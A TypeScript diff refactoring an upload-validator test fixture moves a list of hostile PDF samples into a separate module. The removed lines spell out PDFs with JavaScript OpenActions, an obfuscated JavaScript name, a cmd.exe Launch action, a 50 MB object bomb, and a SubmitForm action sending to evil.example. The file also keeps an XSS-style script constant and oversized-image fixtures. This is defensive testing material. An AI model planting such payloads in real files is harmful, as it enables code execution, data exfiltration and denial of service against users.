@@ -1,25 +1,11 @@
 import { crc32, deflateSync, gzipSync } from 'node:zlib';
+import { HOSTILE_PDFS, pdf } from './hostile-pdfs';
 import { picture } from './identity';
 import { SAMPLES, zip } from './sample-files';
 
 const ascii = (text: string) => Buffer.from(text, 'latin1');
 const hex = (digits: string) => Buffer.from(digits, 'hex');
 const SCRIPT = '<script>fetch("/api/v1/auth/session")</script>';
-
-/** A PDF with these objects. */
-export function pdf(objects: string | Buffer, { head = '%PDF-1.7\n', tail = '%%EOF\n' } = {}) {
-  return Buffer.concat([ascii(head), Buffer.from(objects), ascii(`\ntrailer<<>>\n${tail}`)]);
-}
-
-/** Objects of a PDF as they are compressed. */
-export function objectStream(text: string | Buffer, filter = '/Filter /FlateDecode'): Buffer {
-  const data = deflateSync(text);
-  return Buffer.concat([
-    ascii(`1 0 obj\n<</Type /ObjStm ${filter} /N 1 /First 4 /Length ${data.length}>>\nstream\n`),
-    data,
-    ascii('\nendstream\nendobj'),
-  ]);
-}
 
 function chunk(type: string, data: Buffer): Buffer {
   const body = Buffer.concat([ascii(type), data]);
@@ -104,17 +90,7 @@ export async function hostileFiles(): Promise<readonly (readonly [name: string, 
     ['pixels.png', pngOf(30_000, 30_000, 30_000)],
     ['pixels-that-are-not-there.png', pngOf(60_000, 60_000, 1)],
     ['pixels.jpg', await largestJpeg()],
-    ['script.pdf', pdf('1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj')],
-    ['spelled-out.pdf', pdf('1 0 obj<</S /J#61vaScr#69pt /JS (app.alert(1))>>endobj')],
-    ['compressed.pdf', pdf(objectStream('1 0 <</S /JavaScript /JS (app.alert(1))>>'))],
-    ['object-bomb.pdf', pdf(objectStream(Buffer.alloc(50_000_000)))],
-    ['unreadable-objects.pdf', pdf(objectStream('1 0 <<>>').fill('x', 90))],
-    ['launch.pdf', pdf('1 0 obj<</S /Launch /F (cmd.exe)>>endobj')],
-    ['attachment.pdf', pdf('1 0 obj<</Type /EmbeddedFile>>endobj')],
-    ['film.pdf', pdf('1 0 obj<</Subtype /RichMedia>>endobj')],
-    ['form.pdf', pdf('1 0 obj<</XFA 2 0 R>>endobj')],
-    ['sends.pdf', pdf('1 0 obj<</S /SubmitForm /F (https://evil.example)>>endobj')],
-    ['locked.pdf', pdf('1 0 obj<</Encrypt 2 0 R>>endobj')],
+    ...HOSTILE_PDFS,
     ['cut-off.pdf', pdf('', { tail: '' })],
     ['late.pdf', pdf('', { head: `${' '.repeat(20)}%PDF-1.7\n` })],
     ['page-first.pdf', SAMPLES.htmlBeforePdf],
